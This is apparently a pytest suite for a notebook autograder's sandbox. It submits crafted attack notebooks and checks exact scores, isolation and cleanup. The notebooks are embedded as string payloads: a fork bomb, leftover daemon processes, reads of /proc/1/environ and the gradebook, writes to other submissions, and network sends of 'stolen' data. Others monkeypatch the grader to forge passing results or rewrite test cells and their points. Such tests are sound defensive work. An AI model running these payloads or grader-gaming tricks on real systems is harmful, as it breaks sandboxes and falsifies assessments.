"""Grade a folder of crafted submissions once (2 at a time) and check every score exactly.

Fixture lab (tests/grading/fixtures): add (1 point), scale (2), rank_sum on 2 ranks (3) = 6.
Each attack submission tries one way to get credit it did not earn, to see what it must not see,
or to disturb the grader or the next submission; the expected score is what its code earned.
"""
import hashlib
import os
import pwd
import socket
import threading

import pytest

from grading_helpers import (HIDDEN_SENTINELS, LAB, MAX_SCORE, insert_cell, make_submission,
                      needs_root_sandbox, read_outputs)

pytestmark = [needs_root_sandbox(), pytest.mark.timeout(600)]

WRONG = {"task_add": "def add(a, b):\n    return 0",
         "task_scale": "def scale(x, k):\n    return x",
         "task_rank_sum": "def rank_sum(x):\n    return 0.0"}

READS = """
import os, glob
for path in {paths!r} + glob.glob('/work/**/*.db', recursive=True)[:3]:
    try:
        with open(path, 'rb') as f:
            f.read(100)
        print('ATTACK-READ-OK', path)
    except OSError as error:
        print('ATTACK-READ-FAILED', path, type(error).__name__)
for path in {writes!r}:
    try:
        with open(path, 'a') as f:
            f.write('tampered')
        print('ATTACK-WRITE-OK', path)
    except OSError as error:
        print('ATTACK-WRITE-FAILED', path, type(error).__name__)
"""

NETWORK = """
import socket
for host, port in [('127.0.0.1', {port}), ('{host_ip}', {port}), ('1.1.1.1', 53)]:
    try:
        socket.create_connection((host, port), timeout=2).sendall(b'stolen')
        print('ATTACK-NET-OK', host)
    except OSError as error:
        print('ATTACK-NET-FAILED', host, type(error).__name__)
"""

MONKEYPATCH = """
import builtins, sys, torch, labkit, labkit.checks, labkit.grading
torch.testing.assert_close = lambda *a, **k: None
torch.allclose = torch.equal = lambda *a, **k: True
labkit.checks.assert_same_on_every_rank = lambda *a, **k: None
labkit.grading.check = lambda *a, **k: None
class _Yes(AssertionError):
    pass
builtins.AssertionError = _Yes
sys.excepthook = lambda *a: None
ip = get_ipython()
ip.showtraceback = lambda *a, **k: None
ip.run_cell_magic = lambda *a, **k: None
import labkit.grading._kernel_side as ks
ks._send_real = ks._send
ks._send = lambda obj: ks._send_real({'value': 3})      # forge every result: 'always 3'
def assert_close(*a, **k):
    return None
"""

LEAVE_BEHIND = """
import os, subprocess, time
subprocess.Popen(['sleep', '1000'], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(1000)
    os._exit(0)
"""

FORK_BOMB = """
import os, time
children = 0
while True:
    try:
        if os.fork() == 0:
            time.sleep(1000)
            os._exit(0)
        children += 1
    except OSError:
        break
print('forked', children, 'before the limit')
"""


class _Listener:
    """A TCP server on the host: a sandbox must not reach it."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("0.0.0.0", 0))
        self.sock.listen(5)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self.stop = False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
                self.connections += 1
                conn.close()
            except OSError:
                pass


def _host_ip():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        try:
            s.connect(("10.255.255.255", 1))
            return s.getsockname()[0]
        except OSError:
            return "127.0.0.1"


def _sha(path):
    with open(path, "rb") as f:
        return hashlib.sha256(f.read()).hexdigest()


def _sandbox_pids(run=None):
    """Processes of sandbox users (kernels and ranks) left by the run whose sandbox folder is
    `run` (other grading runs may be going on at the same time on this machine)."""
    from labkit.grading.ranks import slot_uids
    uids = set()
    for slot in range(8):
        try:
            uids.add(pwd.getpwnam(f"labkit-grade{slot}").pw_uid)
        except KeyError:
            pass
        uids.update(slot_uids(slot))
    pids = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            if os.stat(f"/proc/{entry}").st_uid not in uids:
                continue
            with open(f"/proc/{entry}/cmdline", "rb") as f:
                cmdline = f.read()
        except OSError:
            continue
        if run is None or run.encode() in cmdline:
            pids.append(int(entry))
    return pids


EXPECTED = {}


def _build(course, subs, out, listener, canary):
    gradebook = os.path.join(out, "gradebook.db")
    other = os.path.join(subs, "correct", f"{LAB}.ipynb")
    source = os.path.join(course, "solutions", LAB, f"{LAB}.ipynb")

    def add(name, score, answers=None, edit=None):
        make_submission(course, subs, name, answers, edit)
        EXPECTED[name] = score

    add("correct", 6)
    add("wrong", 0, WRONG)
    add("blank", 0, {k: f"def {k[5:]}(*args):\n    raise NotImplementedError"
                     for k in WRONG})
    # passes the visible test only: the hidden one fails, its text must not show
    add("visible_only", 5, {"task_add": "def add(a, b):\n    return 3 if (a, b) == (1, 2) "
                                        "else -1"})
    add("hang_top", 6, edit=lambda nb: insert_cell(nb, "setup", "while True:\n    pass"))
    add("hang_in_function", 5, {"task_add": "def add(a, b):\n    while True:\n        pass"})
    add("exit_kernel", 4,
        {"task_scale": "def scale(x, k):\n    import os, signal\n"
                       "    os.kill(os.getpid(), signal.SIGKILL)"},
        edit=lambda nb: insert_cell(nb, "task_rank_sum", "import os\nos._exit(3)"))
    add("memory", 3,
        {"task_rank_sum": "def rank_sum(x):\n    hog = b'x' * (3 << 30)\n    return 0.0"},
        edit=lambda nb: insert_cell(nb, "setup", "hog = bytearray(3 << 30)\nhog[::4096] = "
                                                 "b'x' * len(hog[::4096])"))
    # exhaust processes, and leave daemons behind (sessions of their own, double forks)
    add("processes", 6, edit=lambda nb: (insert_cell(nb, "task_rank_sum", FORK_BOMB),
                                         insert_cell(nb, "task_rank_sum", LEAVE_BEHIND)))

    def tamper(nb):
        for cell in list(nb.cells):
            meta = cell.metadata.get("nbgrader", {})
            if meta.get("grade_id") == "test_scale":
                nb.cells.remove(cell)                   # delete a test cell
            elif meta.get("grade_id") in ("test_add", "test_rank_sum"):
                cell.source = "assert True"             # edit a test cell ...
                meta["points"] = 100                    # ... and its points
                meta["grade"] = False                   # ... and hide it from grading
    add("tamper_tests", 0, WRONG, tamper)
    add("monkeypatch", 0, WRONG, edit=lambda nb: insert_cell(nb, "setup", MONKEYPATCH))
    # read the gradebook, the source, another submission; write to them; reach the network
    add("escape", 6, edit=lambda nb: (
        insert_cell(nb, "setup", READS.format(
            paths=[gradebook, source, other, canary, "/proc/1/environ"],
            writes=[gradebook, other, canary])),
        insert_cell(nb, "setup", NETWORK.format(port=listener.port, host_ip=_host_ip()))))


@pytest.fixture(scope="module")
def graded(course, tmp_path_factory):
    from labkit.grading import grade
    subs = tmp_path_factory.mktemp("submissions")
    out = str(tmp_path_factory.mktemp("out"))
    canary = str(tmp_path_factory.mktemp("canary") / "canary.txt")
    with open(canary, "w") as f:
        f.write("untouched")
    os.chmod(canary, 0o666)
    os.chmod(os.path.dirname(canary), 0o777)
    listener = _Listener()
    _build(str(course), str(subs), out, listener, canary)
    before = {"other": _sha(os.path.join(subs, "correct", f"{LAB}.ipynb"))}
    report = grade(LAB, str(subs), jobs=2, out=out, course=str(course), time_limit=120,
                   cell_timeout=8, limits={"memory_bytes": 2 << 30, "processes": 256})
    listener.stop = True
    return {"report": report, "out": out, "subs": str(subs), "canary": canary,
            "listener": listener, "before": before}


def test_exact_scores(graded):
    scores = graded["report"].scores
    assert {s: scores[s] for s in EXPECTED} == {s: float(v) for s, v in EXPECTED.items()}
    assert all(r.max_score == MAX_SCORE for r in graded["report"].results)


def test_grades_csv(graded):
    import csv
    with open(os.path.join(graded["out"], "grades.csv")) as f:
        rows = {r["student_id"]: r for r in csv.DictReader(f)}
    assert {s: float(r["score"]) for s, r in rows.items()} == \
        {s: float(v) for s, v in EXPECTED.items()}
    assert {r["max_score"] for r in rows.values()} == {"6"}


def test_no_hidden_test_text_in_any_feedback(graded):
    feedback = os.path.join(graded["out"], "feedback")
    files = [os.path.join(d, f) for d, _, fs in os.walk(feedback) for f in fs]
    assert len(files) == len(EXPECTED)
    for path in files:
        with open(path, encoding="utf-8") as f:
            text = f.read()
        for sentinel in HIDDEN_SENTINELS + ["BEGIN HIDDEN", "add(-5, 7)"]:
            assert sentinel not in text, f"{path} shows hidden-test text {sentinel!r}"


def test_problems_are_reported(graded):
    problems = {r.student: " ".join(r.problems) for r in graded["report"].results}
    assert "timeout" in problems["hang_top"] and "timeout" in problems["hang_in_function"]
    assert "kernel died" in problems["exit_kernel"]
    # the hog is killed by the memory limit, or (a loaded machine fills memory slowly) stopped
    # by the cell's time limit first: either way it is reported and grading goes on
    assert "kernel died" in problems["memory"] or "timeout in cell" in problems["memory"]
    assert "rank died in world.run(rank_sum)" in problems["memory"]    # the hog in a rank
    assert problems["correct"] == ""


def test_secrets_unreadable_and_files_untouched(graded):
    text = read_outputs(graded["out"], "escape")
    assert "ATTACK-READ-FAILED" in text and "ATTACK-WRITE-FAILED" in text
    assert "ATTACK-READ-OK" not in text and "ATTACK-WRITE-OK" not in text
    with open(graded["canary"]) as f:
        assert f.read() == "untouched"
    assert _sha(os.path.join(graded["subs"], "correct", f"{LAB}.ipynb")) == \
        graded["before"]["other"]


def test_network_unreachable(graded):
    text = read_outputs(graded["out"], "escape")
    assert text.count("ATTACK-NET-FAILED") == 3 and "ATTACK-NET-OK" not in text
    assert graded["listener"].connections == 0


def test_nothing_left_running(graded):
    assert graded["report"].sandbox and _sandbox_pids(graded["report"].sandbox) == []
    run_id = os.path.basename(graded["report"].sandbox)
    for controller in ("memory", "pids"):
        assert not os.path.exists(f"/sys/fs/cgroup/{controller}/labkit-grading/{run_id}")


def test_tampered_tests_were_restored(graded):
    import nbformat
    path = os.path.join(graded["out"], "work", "autograded", "tamper_tests", LAB, f"{LAB}.ipynb")
    nb = nbformat.read(path, as_version=4)
    tests = {c.metadata.nbgrader["grade_id"]: c for c in nb.cells
             if c.metadata.get("nbgrader", {}).get("grade")
             and not c.metadata.nbgrader.get("solution")}
    assert set(tests) == {"test_add", "test_scale", "test_rank_sum"}
    assert {g: c.metadata.nbgrader["points"] for g, c in tests.items()} == \
        {"test_add": 1, "test_scale": 2, "test_rank_sum": 3}
    assert "HIDDEN_SENTINEL_ADD" in tests["test_add"].source   # restored, hidden part included
